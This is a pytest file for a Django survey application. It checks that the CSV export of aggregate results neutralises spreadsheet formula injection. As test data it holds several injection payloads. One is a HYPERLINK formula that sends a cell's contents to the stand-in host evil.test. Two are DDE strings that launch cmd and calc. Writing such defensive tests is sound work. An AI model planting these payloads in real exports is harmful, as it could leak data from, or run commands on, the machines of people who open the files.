"""The aggregate results CSV is inert: a label that would start a formula never runs."""

import csv
import datetime
import io

import pytest
from django.urls import reverse

from ungkultur.surveys import services
from ungkultur.surveys.models import Choice, Question, Section
from ungkultur.surveys.tests.results_data import NOW, add_responses

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.test/?leak="&A2,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _files(settings, tmp_path):
    settings.UNGKULTUR_SURVEY_FILES_DIR = str(tmp_path)


@pytest.fixture
def wave(personas):
    actor = personas.researcher
    questionnaire = services.questionnaire_create(actor=actor, title="Angrep", now=NOW)
    section = Section.objects.get(questionnaire=questionnaire)
    question = services.question_add_from_bank(actor=actor, section=section, key="gender", now=NOW)
    Question.objects.filter(pk=question.pk).update(label_nb=ATTACKS[0])
    choices = list(Choice.objects.filter(choice_list=question.choice_list))
    for choice, text in zip(choices, ATTACKS[1:], strict=False):
        Choice.objects.filter(pk=choice.pk).update(label_nb=text)
    # A "vet ikke" coded -1, as many surveys do: a code that is a number stays a number.
    Choice.objects.create(
        choice_list=question.choice_list, value="-1", label_nb=ATTACKS[5], position=99
    )
    survey = services.survey_create(
        actor=actor, title="Angrep", questionnaire=questionnaire, now=NOW
    )
    wave = services.wave_create(actor=actor, survey=survey, identifier="b", title="B", now=NOW)
    # Its own time of freezing: the structure of a frozen questionnaire is cached per process
    # by primary key and that time, and the test database reuses primary keys.
    services.wave_open(actor=actor, wave=wave, now=NOW + datetime.timedelta(seconds=2))
    add_responses(wave, personas.arendal, 6, kjonn="1")
    add_responses(wave, personas.arendal, 6, kjonn="-1")
    return wave


def test_aggregate_csv_makes_labels_that_would_start_a_formula_inert(client, personas, wave):
    client.force_login(personas.researcher)
    response = client.get(reverse("surveys:wave_results_csv", args=[wave.pk]) + "?sporsmal=kjonn")
    assert response.status_code == 200
    text = response.content.decode()
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert {row[1] for row in rows} == {"'" + ATTACKS[0]}
    answers = {row[3]: row for row in rows}
    assert set(answers) >= {"'" + attack for attack in ATTACKS[1:]}
    # The code -1 and the counts are numbers, written unquoted; the labels are quoted text.
    assert answers["'" + ATTACKS[5]][4:6] == ["-1", "6"]
    assert '"\'\r=1+1",-1,6,' in text
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-1", cell
